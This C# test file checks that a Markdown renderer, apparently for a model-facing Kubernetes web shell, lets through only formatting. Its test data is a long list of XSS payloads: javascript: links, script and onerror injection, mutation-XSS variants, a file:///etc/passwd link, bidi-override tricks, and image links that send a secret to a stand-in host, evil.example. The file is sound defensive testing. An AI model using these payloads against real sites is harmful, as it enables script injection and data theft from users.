using AngleSharp.Html.Parser;
using Anycast.Web.Shell.Parts;

namespace Anycast.Tests.Shell;

/// <summary>What a model writes, or a hostile cluster through it, can format text and nothing else.</summary>
public sealed class MarkdownTests
{
    private static readonly string[] s_tags = ["P", "BR", "STRONG", "EM", "DEL", "CODE", "PRE", "UL", "OL", "LI", "H3", "H4", "H5", "H6", "BLOCKQUOTE", "HR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A"];
    private static readonly string[] s_attributes = ["href", "rel", "target", "start"];

    public static TheoryData<string> Hostile =>
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](\u0001javascript:alert(1))",
        "<javascript:alert(1)>", "[x][r]\n\n[r]: javascript:alert(1)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
        "[x](//evil.example/steal)", "[x](/\\evil.example)", "[x](file:///etc/passwd)", "[x](blob:https://a/b)", "[x](\\\\evil\\share)",
        "![x](https://evil.example/p.png?d=secret)", "![x][r]\n\n[r]: https://evil.example/p.png", "[![x](https://evil.example/p.png)](https://evil.example)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=https://evil.example></iframe>", "<style>*{background:url(//evil)}</style>",
        "# x {onclick=alert(1)}", "[x](https://ok.example){onmouseover=alert(1)}", "{style=\"background:url(//evil)\"}\ntext", "[x](https://www.youtube.com/watch?v=abc)", "![v](https://www.youtube.com/watch?v=abc)",
        "<a href=\"javascript:alert(1)\">x</a>", "<form action=//evil><input name=p></form>", "```html\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |", "[x](https://ok.example \"t\" onmouseover=\"alert(1)\")", "[x](https://ok.example \"a\\\"><script>alert(1)</script>\")",
        "<!--<img src=x onerror=alert(1)>-->", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", "<math><mtext></p><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];

    [Theory]
    [InlineData("kubectl delete \u202Egnp.exe")]
    [InlineData("`a\u2066b\u2069`")]
    [InlineData("\u061C\u200Fx")]
    public void Render_OfCharactersThatTurnTheOrder_WritesThemOut(string text)
    {
        var html = MarkdownHtml.Render(text);
        Assert.DoesNotContain(html, c => c is '\u061C' or '\u200E' or '\u200F' or (>= '\u202A' and <= '\u202E') or (>= '\u2066' and <= '\u2069'));
        Assert.Contains("U+", html, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Render_OfHostileText_LetsNothingThroughThatActs(string markdown)
    {
        var document = new HtmlParser().ParseDocument("<body>" + MarkdownHtml.Render(markdown) + "</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.TagName, s_tags);
            Assert.All(element.Attributes, a => Assert.Contains(a.Name, s_attributes));
            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?://|mailto:|/[^/\\\\])", href);
            }
        }
    }

    [Fact]
    public void Render_OfALinkThatIsRefused_KeepsItsWords() => Assert.Equal("<p>see here now</p>", MarkdownHtml.Render("see [here](javascript:alert(1)) now").Trim());

    [Fact]
    public void Render_OfAnImage_KeepsItsDescriptionAndAsksNobody() => Assert.Equal("<p>graph</p>", MarkdownHtml.Render("![graph](https://evil.example/x.png)").Trim());

    [Fact]
    public void Render_OfALinkElsewhere_OpensANewTabThatKnowsNothingOfUs()
    {
        var html = MarkdownHtml.Render("[docs](https://kubernetes.io/docs) [pod](/t/a/c/b/pods)");
        Assert.Contains("<a href=\"https://kubernetes.io/docs\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">docs</a>", html);
        Assert.Contains("<a href=\"/t/a/c/b/pods\">pod</a>", html);
    }

    [Fact]
    public void Render_OfOrdinaryText_FormatsIt()
    {
        var html = MarkdownHtml.Render("# Cause\n\n**OOM** in `checkout`, ~~twice~~:\n\n1. a\n2. b\n\n```yaml\nmemory: 64Mi\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        Assert.Contains("<h3>Cause</h3>", html);
        Assert.Contains("<strong>OOM</strong>", html);
        Assert.Contains("<code>checkout</code>", html);
        Assert.Contains("<del>twice</del>", html);
        Assert.Contains("<pre><code>memory: 64Mi", html);
        Assert.Contains("<td>2</td>", html);
    }

    [Fact]
    public void Render_OfNestingWithoutEnd_EndsAsPlainText()
    {
        var html = MarkdownHtml.Render(new string('>', 5000) + " x");
        Assert.DoesNotContain("<script", html);
        Assert.NotEmpty(html);
    }

    [Fact]
    public void Render_OfHugeText_IsCut() => Assert.InRange(MarkdownHtml.Render(new string('a', MarkdownHtml.MaxLength * 2)).Length, 1, MarkdownHtml.MaxLength + 100);
}
